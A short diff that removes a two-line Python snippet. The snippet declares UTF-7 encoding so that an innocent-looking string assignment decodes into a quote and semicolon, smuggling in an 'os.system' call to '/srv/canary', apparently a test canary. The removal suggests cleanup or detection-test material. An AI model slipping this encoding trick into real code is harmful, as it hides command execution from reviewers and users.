@@ -1,2 +1,0 @@
-# vim: set fileencoding=utf-7 :
-rows = "+ACIAOw- import os; os.system('/srv/canary') #"
